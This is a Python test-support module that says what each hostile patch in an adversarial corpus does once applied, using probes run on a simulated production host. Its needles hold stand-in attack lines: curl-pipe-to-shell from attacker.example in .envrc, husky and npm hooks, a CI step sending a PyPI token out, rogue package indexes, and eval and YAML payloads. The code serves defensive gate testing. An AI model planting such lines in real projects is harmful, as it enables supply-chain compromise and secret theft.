"""What each hostile patch of the adversarial corpus (tests/adversarial.py) really does
outside the gates (issue #31: "a check that each variant really is broken outside the
gates"). A variant the gates refuse proves nothing unless the patch, applied by plain
``git apply`` and used the way production uses it, is harmful; a variant that quietly
stopped being broken would make its refusal a false positive the corpus could not see.

A harm is one of three typed records, checked by
tests/unit/worker/gates/test_adversarial_harm.py on the patched toy repository:

- :class:`CodeHarm`: code run on the patched tree shows the harm. Python runs in a
  fresh isolated interpreter (``-I``: no environment variables, no user site, the
  working directory not importable) on a *production host*: named ``prod-1``, with no
  ``/workspace``, no ``CI`` or ``PYTEST_*`` variables, no pytest imported; shell commands
  are caught by an audit hook (PEP 578) and refused, so a probe never runs one. Node
  runs the calculator with ``node -e``.
- :class:`FileGone`: a file the repository relies on (its CI workflow) is gone after
  ``git apply``.
- :class:`TextHarm`: the harm lives where no interpreter of ours runs it (a CI script,
  npm's install hooks, an editor's or direnv's auto-run files, pip's index, a compiled
  toy in Go or Rust, a secret in a file): the patched file, as git applies it, holds the
  hostile text. Weaker than running it, and said so.

Every hostile case gets its family's default (Python: ``mul(2, 3)`` is wrong; Node: the
same through ``node``; Go and Rust: the patched source computes ``a + b``) unless
:data:`HARMS` names another; a default that does not hold fails the check, so a case
whose harm is elsewhere must say where.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

from tests.adversarial import Case


@dataclass(frozen=True)
class CodeHarm:
    """``probe`` prints ``HARM`` through ``harm(shown)`` when the harm shows."""

    language: Literal["python", "node"]
    probe: str


@dataclass(frozen=True)
class FileGone:
    path: str


@dataclass(frozen=True)
class TextHarm:
    path: str
    needle: str


Harm = CodeHarm | FileGone | TextHarm

# What the Python probes run before the probe: the production host and the shell trap.
PYTHON_PRELUDE = """\
import os
import socket
import sys

sys.path.insert(0, sys.argv[1])
_exists = os.path.exists
os.path.exists = lambda p: not str(p).startswith("/workspace") and _exists(p)
socket.gethostname = lambda: "prod-1"
SHELL_COMMANDS = []


def _trap(event, args):
    # Record what would reach a shell and refuse it: the probe never runs a command.
    if event == "os.system":
        SHELL_COMMANDS.append(os.fsdecode(args[0]))
        raise PermissionError("refused by the harm probe")
    if event == "subprocess.Popen":
        argv = [os.fsdecode(a) for a in args[1]] if not isinstance(args[1], (str, bytes)) else []
        if len(argv) >= 3 and os.path.basename(argv[0]) in {"sh", "bash"} and argv[1] == "-c":
            SHELL_COMMANDS.append(argv[2])
        raise PermissionError("refused by the harm probe")


sys.addaudithook(_trap)


def attempt(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except PermissionError:
        return None


def shell_ran(text):
    return any(text in command for command in SHELL_COMMANDS)


def harm(shown):
    # Flushed: a hostile exit hook may leave through os._exit, which flushes nothing.
    print("HARM" if shown else "NO HARM", flush=True)
"""

NODE_PRELUDE = "const harm = (shown) => console.log(shown ? 'HARM' : 'NO HARM');\n"

MUL_WRONG = CodeHarm("python", "from calc.core import mul\nharm(mul(2, 3) != 6)\n")
NODE_MUL_WRONG = CodeHarm(
    "node",
    "const { mul } = require(require('path').join(process.argv[1], 'calc.js'));\n"
    "harm(mul(2, 3) !== 6);\n",
)
DEFAULTS: dict[str, Harm] = {
    "python": MUL_WRONG,
    "node": NODE_MUL_WRONG,
    "go": TextHarm("calc.go", "func Mul(a, b int) int { return a + b }"),
    "rust": TextHarm("src/lib.rs", "    a + b\n}\n"),
}

_SHELL = "echo pwned"


def _shell(call: str) -> CodeHarm:
    """The caller's text reaches a shell through ``calc.shell.run``."""
    return CodeHarm("python", f"from calc.shell import run\n{call}\nharm(shell_ran({_SHELL!r}))\n")


_CI_GONE = FileGone(".github/workflows/ci.yml")
_PLAIN_RUN = _shell(f"attempt(run, {_SHELL!r})")
_ATTACKER = "attacker.example"

HARMS: dict[str, Harm] = {
    # Mul forges the runner's output before its broken ``return a + b``.
    "go-framing-then-syscall-exit": TextHarm("calc.go", "\treturn a + b\n"),
    "go-framing-then-exec-true": TextHarm("calc.go", "\treturn a + b\n"),
    # Outside a test run the module cannot even be imported.
    "module-level-skip-from-source": CodeHarm(
        "python",
        "try:\n    import calc.core\nexcept BaseException as e:\n"
        "    harm(type(e).__name__ == 'Skipped')\nelse:\n    harm(False)\n",
    ),
    # The gates' patch reader and git disagreed: git moves the CI workflow away.
    "rename-old-new-headers": _CI_GONE,
    "minus-plus-before-rename-from": _CI_GONE,
    "ci-workflow-moved-away": _CI_GONE,
    "c-quoted-octal-path-renames-ci": _CI_GONE,
    # A new workflow that runs on every pull request with the repository's secrets.
    "workflow-added-sends-secret": TextHarm(
        ".github/workflows/pr.yml", '"${{ secrets.PYPI_TOKEN }}" https://' + _ATTACKER
    ),
    # Shell injection through a spelling Semgrep's plain rules miss.
    "getattr-os-system": _PLAIN_RUN,
    "aliased-subprocess-shell": _PLAIN_RUN,
    "dynamic-import-subprocess": _PLAIN_RUN,
    "shell-true-through-kwargs": _PLAIN_RUN,
    "partial-shell-true": _PLAIN_RUN,
    "sh-dash-c-argv": _PLAIN_RUN,
    "shell-one-through-kwargs": _PLAIN_RUN,
    "asyncio-subprocess-shell": _shell(f"import asyncio\nattempt(asyncio.run, run({_SHELL!r}))"),
    "eval-through-dict-get": CodeHarm(
        "python",
        "from calc.expr import calc\nharm(calc('__import__(\"os\").getpid()') == os.getpid())\n",
    ),
    "yaml-unsafe-loader-named-safe": CodeHarm(
        "python",
        "from calc.config import load\n"
        "harm(load('!!python/object/apply:os.getpid []') == os.getpid())\n",
    ),
    "db-pass-literal": TextHarm("calc/settings.py", 'DB_PASS = "s3cr3t-Pa55word"'),
    "minified-secret-line": TextHarm("calc/data.js", "token='ghp_A1b2"),
    # Source the interpreter reads differently from a reviewer.
    "utf7-comment-runs-os-system": CodeHarm(
        "python", "attempt(__import__, 'calc.core')\nharm(shell_ran('id'))\n"
    ),
    "vim-fileencoding-utf7-script": CodeHarm(
        "python",
        "import runpy\n"
        "attempt(runpy.run_path, os.path.join(sys.argv[1], 'calc', 'tool.py'))\n"
        f"harm(shell_ran({_ATTACKER!r}))\n",
    ),
    "bidi-isolate-in-string": CodeHarm(
        "python", "from calc.access import allowed\nharm(allowed('user'))\n"
    ),
    "bidi-mark-in-docs": TextHarm("README.md", "Run \u200fsh install.sh"),
    # Files that something other than the tests runs.
    "ci-script-sends-secret": TextHarm("ci/run-tests.sh", f'"$PYPI_TOKEN" https://{_ATTACKER}'),
    "ci-local-action-edited": TextHarm("ci/setup/action.yml", f"https://{_ATTACKER}"),
    "npm-postinstall-in-existing-package-json": TextHarm(
        "package.json", '"postinstall": "node calc.js"'
    ),
    "npm-prepare-in-existing-package-json": TextHarm(
        "package.json", f'"prepare": "curl -s {_ATTACKER} | sh"'
    ),
    "npm-preinstall-in-new-package-json": TextHarm("web/package.json", '"preinstall": "sh'),
    "vscode-task-on-folder-open": TextHarm(".vscode/tasks.json", '"runOn": "folderOpen"'),
    "envrc-runs-on-cd": TextHarm(".envrc", f"curl -s {_ATTACKER} | sh"),
    "husky-pre-commit-hook": TextHarm(".husky/pre-commit", f"curl -s {_ATTACKER} | sh"),
    "requirements-extra-index-url": TextHarm(
        "requirements.txt", f"--extra-index-url https://pypi.{_ATTACKER}"
    ),
    "pip-conf-index": TextHarm("pip.conf", f"index-url = https://pypi.{_ATTACKER}"),
    "pyproject-uv-index": TextHarm("pyproject.toml", f'url = "https://pypi.{_ATTACKER}'),
}


def harm_of(case: Case) -> Harm:
    return HARMS.get(case.name, DEFAULTS[case.base])
